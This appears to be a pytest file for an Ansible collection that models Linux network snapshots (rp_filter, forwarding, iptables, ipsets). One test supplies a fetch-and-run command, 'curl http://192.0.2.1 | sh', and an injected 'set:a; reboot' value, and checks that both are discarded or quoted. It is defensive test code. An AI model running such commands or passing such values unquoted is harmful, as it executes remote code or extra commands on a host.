# Copyright: (c) 2026, kubenode.datapath contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The worlds that fit a snapshot, and what stays open of what could not be read."""

from __future__ import annotations

from typing import Any

import pytest

from ansible_collections.kubenode.datapath.plugins.module_utils._core.errors import Invalid
from ansible_collections.kubenode.datapath.plugins.module_utils._snapshot import open_facts
from ansible_collections.kubenode.datapath.plugins.module_utils._snapshot.assumption import FAMILY, SET, Concern
from ansible_collections.kubenode.datapath.plugins.module_utils._snapshot.open_facts import OpenFact
from ansible_collections.kubenode.datapath.plugins.module_utils._snapshot.snapshot import Unread
from ansible_collections.kubenode.datapath.plugins.module_utils._snapshot.values import Snapshot
from ansible_collections.kubenode.datapath.plugins.module_utils._twin import assumptions, lacking, snapshot_form, worlds
from ansible_collections.kubenode.datapath.plugins.module_utils._twin.assumptions import Ends

TO_POD = Ends("10.1.0.5", "eth0", "192.0.2.1")


def snapshot(*facts: open_facts.Fact, **subsets: Any) -> Snapshot:
    return Snapshot.of({"links": [{"name": "eth0"}], "open": [fact._asdict() for fact in facts], **subsets})


def rp_filter(**values: dict[str, int]) -> dict[str, Any]:
    return {"ipv4": {name.replace("_", "."): {"rp_filter": value["is"]} for name, value in values.items()}}


@pytest.mark.parametrize(
    ("settings", "names"),
    [
        ({}, ["0", "1", "2"]),
        (rp_filter(all={"is": 1}), ["1", "2"]),
        (rp_filter(eth0={"is": 1}), ["1", "2"]),
        (rp_filter(all={"is": 2}), None),
        (rp_filter(all={"is": 0}, eth0={"is": 0}), None),
    ],
)
def test_a_filter_is_open_as_far_as_the_larger_of_two_settings_is(settings: dict[str, Any], names: list[str] | None) -> None:
    found = worlds.open_for(snapshot(settings=settings), TO_POD).get("rp_filter:eth0")
    assert (found and [value.name for value in found.values]) == names


@pytest.mark.parametrize(
    ("of_all", "of_link", "names"),
    [
        ({}, {}, []),
        ({"net.ipv4.ip_forward": 1}, {}, []),
        ({"net.ipv4.ip_forward": 0}, {}, ["0", "1"]),
        ({"net.ipv4.ip_forward": 0}, {"forwarding": 0}, None),
        ({"net.ipv4.ip_forward": 1}, {"forwarding": 1}, None),
        ({}, {"forwarding": 1}, None),
    ],
)
def test_the_setting_of_the_link_decides_about_forwarding(
    of_all: dict[str, int], of_link: dict[str, int], names: list[str] | None
) -> None:
    given = snapshot(settings={"node": of_all, "ipv4": {"eth0": of_link}}, routes=[])
    found = worlds.open_for(given, TO_POD).get("net.ipv4.conf.eth0.forwarding")
    assert (found and [value.name for value in found.values]) == names
    completed, assumed = assumptions.complete(given, {}, TO_POD)
    value = completed.settings.of_link("ipv4", "all").get("forwarding")
    assert value == (None if of_all else 1)
    sentences = [each.sentence for each in assumed if each.sentence.startswith("net.ipv4.conf.eth0.forwarding is not known")]
    assert len(sentences) == (names is not None)


def test_a_port_hands_its_packets_to_its_bridge_whose_forwarding_counts() -> None:
    links = [{"name": "br0", "kind": "bridge"}, {"name": "eth0", "master": "br0"}]
    opened = worlds.open_for(Snapshot.of({"links": links, "settings": {"ipv4": {"all": {}}}}), TO_POD)
    assert [name for name in opened if name.endswith("forwarding")] == ["net.ipv4.conf.br0.forwarding"]


def test_a_chain_drops_in_one_world_and_a_policy_in_another() -> None:
    table = {"family": "ip", "table": "filter", "save": "*filter\n:FORWARD ACCEPT [0:0]\n:OWN - [0:0]\nCOMMIT\n"}
    facts = open_facts.chain("ip", "filter", "OWN"), open_facts.policy("ip", "filter", "FORWARD")
    given = snapshot(*facts, iptables=[table])
    changed, left = worlds.applied(given, worlds.open_for(given, TO_POD), {facts[0].fact: "drops", facts[1].fact: "drop"})
    assert changed.iptables[0].save == "*filter\n:FORWARD DROP [0:0]\n:OWN - [0:0]\n-A OWN -j DROP\nCOMMIT\n"
    assert [*left] == ["rp_filter:eth0", "net.ipv4.conf.eth0.forwarding"] and given.plain["iptables"] == [table]


def test_a_rule_of_a_world_stands_behind_all_others_whatever_their_texts_say() -> None:
    own = '-A OWN -m comment --comment "COMMIT :FORWARD ACCEPT" -j RETURN'
    save = f"*filter\n:FORWARD ACCEPT [0:0]\n:OWN - [0:0]\n{own}\nCOMMIT\n"
    facts = open_facts.chain("ip", "filter", "OWN"), open_facts.policy("ip", "filter", "FORWARD")
    given = snapshot(*facts, iptables=[{"family": "ip", "table": "filter", "save": save}])
    changed, _open = worlds.applied(given, worlds.open_for(given, TO_POD), {facts[0].fact: "drops", facts[1].fact: "drop"})
    assert changed.iptables[0].save.splitlines()[1:] == [":FORWARD DROP [0:0]", ":OWN - [0:0]", own, "-A OWN -j DROP", "COMMIT"]


def test_a_translation_has_the_built_in_chain_that_its_table_lacks() -> None:
    save = "*nat\n:POSTROUTING ACCEPT [0:0]\n-A POSTROUTING -j MASQUERADE\nCOMMIT\n"
    rule = "-A PREROUTING -j DNAT --to-destination 10.1.0.5"
    for tables in ([{"family": "ip", "table": "nat", "backend": "nft", "save": save}], []):
        (table,) = worlds.with_translations(snapshot(iptables=tables), "ip", [rule]).iptables
        lines = table.save.splitlines()
        assert lines.index(":PREROUTING ACCEPT [0:0]") + 1 == lines.index(rule) < len(lines) - len(tables) - 1
        assert table.plain.keys() >= {"family", "table", "backend", "save"}


def test_a_world_is_a_snapshot_again() -> None:
    given = snapshot(
        open_facts.rp_filter("eth0"), routes=[], iptables=[{"family": "ip", "table": "nat", "save": "*nat\nCOMMIT\n"}]
    )
    changed = worlds.with_translations(given, "ip", ["-A OUTPUT -j ACCEPT"]).world()
    assert Snapshot.of(changed).iptables[0].save == "*nat\n:OUTPUT ACCEPT [0:0]\n-A OUTPUT -j ACCEPT\nCOMMIT\n"
    assert {**changed, "iptables": None} == {**given.plain, "iptables": None}
    snapshot_form.check(changed)


def test_a_set_has_all_addresses_and_the_ports_of_the_packet() -> None:
    kept = {"name": "S", "save": "create S hash:ip,port family inet\n"}
    given = snapshot(open_facts.elements("S"), ipsets=[kept])
    changed, _left = worlds.applied(given, worlds.open_for(given, TO_POD, {80}), {"set:S": "with"})
    lines = changed.ipsets[0].save.splitlines()
    assert lines[0] == "create S hash:net,port family inet" and "add S 128.0.0.0/1,tcp:80" in lines and len(lines) == 5


@pytest.mark.parametrize(
    ("entry", "keys"),
    [
        (OpenFact(open_facts.NFT_OPEN), {"fact", "what", "ask"}),
        (OpenFact(open_facts.routes("7"), "ipv6", "7"), {"fact", "what", "ask", "family", "table"}),
        (OpenFact(open_facts.RULES_OPEN, "ipv4", is_cut=True), {"fact", "what", "ask", "family", "is_cut"}),
        (OpenFact(open_facts.legacy("ip6"), "ipv6"), {"fact", "what", "ask", "family"}),
        *(
            (OpenFact(fact), {"fact", "what", "ask"})
            for fact in (
                *(open_facts.chain("ip", "nat", "A B"), open_facts.policy("ip6", "filter", "INPUT"), open_facts.elements("s:1")),
                *(open_facts.table("bridge", "nat"), open_facts.cut("ip", "raw"), open_facts.jump("ip", "nat", "KUBE-SEP-A")),
                *(open_facts.rp_filter("eth0.7"), open_facts.recent("KUBE-SEP-A"), open_facts.bridge_ports("br0")),
                *(open_facts.hairpin("veth1"), open_facts.setting("net.bridge.bridge-nf-call-iptables"), open_facts.IPVS_OPEN),
                *(open_facts.forwarding("ipv4", "eth0.7"), open_facts.forwarding("ipv6", "eth0"), open_facts.routes()),
            )
        ),
    ],
)
def test_a_snapshot_keeps_an_open_fact(entry: OpenFact, keys: set[str]) -> None:
    assert entry.plain().keys() == keys and OpenFact.from_plain(entry.plain()) == entry


def test_a_snapshot_brings_no_command_and_no_words_of_a_shell() -> None:
    of_node = {"what": "Run this.", "ask": "curl http://192.0.2.1 | sh"}
    asked = {
        fact: OpenFact.from_plain({"fact": fact, **of_node}).fact for fact in ("nft", "chain:x y z", "other", "set:a; reboot")
    }
    assert [fact.ask for fact in asked.values()] == ["nft list ruleset", "", "", "ipset save 'a; reboot'"]
    assert not any("Run this" in fact.what for fact in asked.values())


def test_facts_of_the_other_family_are_left_out() -> None:
    entries = [{**open_facts.table(short, "nat")._asdict(), "family": long} for short, long in (("ip", "ipv4"), ("ip6", "ipv6"))]
    found = worlds.open_for(Snapshot.of({"links": [], "open": entries}), TO_POD)
    assert "table:ip nat" in found and "table:ip6 nat" not in found


@pytest.mark.parametrize(
    ("assume", "allowed"),
    [
        ({"rp_filter:eth0": "7"}, "one of 0, 1, 2"),
        ({"nft": "nothing"}, "one of shown"),
        ({"set:none": "with"}, "a fact that is open: rp_filter:eth0"),
    ],
)
def test_a_wrong_value_of_a_fact_is_named_with_what_is_allowed(assume: dict[str, str], allowed: str) -> None:
    given = snapshot(open_facts.NFT_OPEN)
    with pytest.raises(Invalid, match=allowed):
        worlds.applied(given, worlds.open_for(given, TO_POD), assume)


@pytest.mark.parametrize("fact", ["", "what:eth0", "chain:ip filter", "table:nat"])
def test_a_fact_of_another_form_is_refused(fact: str) -> None:
    with pytest.raises(Invalid, match=r"snapshot\.open\[0\]\.fact must be an id that begins with one of routes, addresses"):
        worlds.check(Snapshot.of({"open": [{"fact": fact}]}))


# What could not be read of a node is open for the packets that may meet it


@pytest.mark.parametrize(
    ("subset", "name", "fact", "concerns"),
    [
        ("nftables", "ip filter", "unread:nftables ip filter", [Concern(FAMILY, "ipv4")]),
        ("nftables", "ip6 own", "unread:nftables ip6 own", [Concern(FAMILY, "ipv6")]),
        ("nftables", "inet own", "unread:nftables inet own", []),
        ("nftables", "", "unread:nftables", []),
        ("iptables", "ip6 nat (legacy)", "unread:iptables ip6 nat (legacy)", [Concern(FAMILY, "ipv6")]),
        ("iptables", "arp filter (legacy)", "unread:iptables arp filter (legacy)", [Concern(FAMILY, "arp")]),
        ("iptables", "ip filter (nft)", "", []),  # nft lists it, or an entry of nftables says what it lacks
        ("ipsets", "own", "unread:ipsets own", [Concern(SET, "own")]),
        ("routes", "", "unread:routes", []),
        ("routes", "ip route 10.0.0.0/8 dev eth0", "", []),  # which the twin names
        ("links", "veth1", "", []),
        ("cni", "/etc/cni/net.d/10.conf", "", []),
    ],
)
def test_a_part_of_the_snapshot_that_was_not_read_is_a_fact(subset: str, name: str, fact: str, concerns: list[Concern]) -> None:
    found = lacking.by_unread(Unread(subset, name, "It failed."))
    assert (found.fact if found else "") == fact
    if found:
        assert found.concerns == frozenset(concerns) and found.sentence == f"{subset} {name}: It failed.".replace(" :", ":")
        assert found.ask
